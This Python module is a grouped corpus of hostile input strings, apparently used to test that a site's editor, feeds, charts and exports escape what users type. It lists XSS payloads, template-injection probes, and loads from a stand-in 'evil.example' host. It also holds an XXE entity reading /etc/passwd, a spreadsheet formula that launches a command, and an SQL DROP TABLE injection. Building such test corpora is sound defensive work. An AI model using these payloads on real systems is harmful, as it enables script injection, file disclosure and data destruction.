"""Strings an editor might type or paste, each one trying to become markup, script, or a broken feed.

Grouped by what they attack; ``CORPUS`` is every group in order. Lone surrogates are left out: no
browser can send them (UTF-8 cannot encode them), so no form ever receives one. Mojibake such as
"Ã©" is left out too: feedparser "repairs" it, so a feed could not show it as typed.
"""

# <script> in its usual disguises: case, attributes, broken nesting, raw-text neighbours.
SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "'';!--\"<XSS>=&{()}",
]

# Event-handler attributes, and quotes that try to end an attribute to start one.
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
]

# javascript:, vbscript: and data: URLs in many encodings, bare (for URL fields) and in links;
# and valid http(s) URLs that carry markup or quotes.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "//evil.example/",
    'https://example.com/"onmouseover="alert(1)',
    'https://example.com/#"><img/src/onerror=alert(1)>',
    "https://example.com/?q=<script>alert(1)</script>",
    "https://evil.example\\@example.com/",
    "https://example.com/?a=1&b=2&amp;c=3",
    "ftp://example.com/]]>",
]

# SVG and MathML: their own script, links, animation and foreign content, and breaking out of the
# site's own chart (a metric name goes into an SVG <title>).
SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "</text></svg><script>alert(1)</script>",
    "</title></svg><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
]

# Template syntax of Django, Jinja and JavaScript/other engines: must reach readers as typed.
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% csrf_token %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "{# comment #}",
    "${7*7}",
    "`${alert(1)}`",
]

# Breaking out of the guide's JSON-LD <script> block and its JSON strings.
JSON_LD = [
    "</script><script>alert(1)</script>",
    "</script",
    '"}',
    '"}</script><script>alert(1)</script>',
    '\\"}',
    "\\",
    "\u2028",
    "a\u2028b\u2029c",
    "<!--<script>",
]

# Bidirectional overrides and isolates, zero-width characters and the BOM.
BIDI_ZERO_WIDTH = [
    "\u202eevil.exe\u202c",
    "\u2066isolated\u2069",
    "\u200b",
    "java\u200bscript:alert(1)",
    "\ufeffBOM",
    "\u200e\u200f",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "מסגרת \u202bפייתון\u202c <b>bold</b>",
]

# C0 and C1 controls, DEL, and line endings; some strings are nothing but controls.
CONTROL = [
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "\x01\x02\x03",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\x85next line",
    "line\rbreak",
    "line\r\nbreak",
    "<scr\x01ipt>alert(1)</scr\x01ipt>",
]

# Characters and sequences that break XML: CDATA ends, bare ampersands and less-thans, form feed,
# noncharacters, entity declarations.
XML_BREAKING = [
    "]]>",
    "<![CDATA[x]]>",
    "&",
    "AT&T",
    "<",
    "a < b > c",
    "\x0c",
    "\ufffe",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    "\ufdd0",
    "😀 \U0010fffd",
]

# Very long strings, and strings that normalisation makes much longer (NFKC turns U+FDFA into 18
# characters, so 100 of them become 1,800), or that just pass a 200-character limit.
LONG = [
    "A" * 5000,
    "<script>alert(1)</script>" * 200,
    "\ufdfa" * 100,
    "\ufdfa",
    "x" * 201,
    "e" + "\u0301" * 300,
]

# Markdown links and images with script URLs, attribute lists, reference links, raw HTML,
# footnotes, tables and code.
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[x](#"onmouseover="alert(1))',
    "![x](https://example.com/x.png){: onerror=alert(1) }",
    "# heading {: onclick=alert(1) }",
    "text[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "```html\n<script>alert(1)</script>\n```",
    "<!--<img src=x onerror=alert(1)>-->",
]

# CSS: style elements and attributes, expressions, imports, and breaking out of a style block.
CSS = [
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width:expression(alert(1))">',
    "</style><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "@import url(//evil.example/x.css);",
]

# Unicode look-alikes: fullwidth and small-form brackets (NFKC folds them to < and >), letters from
# other scripts and mathematical alphanumerics (NFKC folds them to ASCII).
LOOKALIKES = [
    "＜script＞alert(1)＜/script＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "＜img src=x onerror=alert(1)＞",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "𝓳𝓪𝓿𝓪𝓼𝓬𝓻𝓲𝓹𝓽:alert(1)",
    "＂onmouseover＝＂alert(1)",
    "＆lt;script＆gt;",
    "раураl",
]

# Character references and other encodings of markup: must show as typed, not decoded.
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt",
    "&copy",
    "&nbsp;",
    "&unknown;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

# Elements that are not script but take over the page: frames, objects, base, refresh, forms,
# comments that swallow the rest.
ELEMENTS = [
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button></form>',
    "<plaintext>",
    "<!--",
]

# Strings that are dangerous elsewhere: spreadsheet formulas (the figures CSV), SQL, format strings.
ELSEWHERE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'; DROP TABLE frameworks_framework; --",
    "%s%s%s%n",
]

GROUPS = {
    "script": SCRIPT,
    "event handlers": EVENT_HANDLERS,
    "urls": URLS,
    "svg and mathml": SVG_MATHML,
    "templates": TEMPLATES,
    "json-ld": JSON_LD,
    "bidi and zero-width": BIDI_ZERO_WIDTH,
    "control": CONTROL,
    "xml-breaking": XML_BREAKING,
    "long": LONG,
    "markdown": MARKDOWN,
    "css": CSS,
    "look-alikes": LOOKALIKES,
    "entities": ENTITIES,
    "elements": ELEMENTS,
    "elsewhere": ELSEWHERE,
}

CORPUS = [payload for group in GROUPS.values() for payload in group]
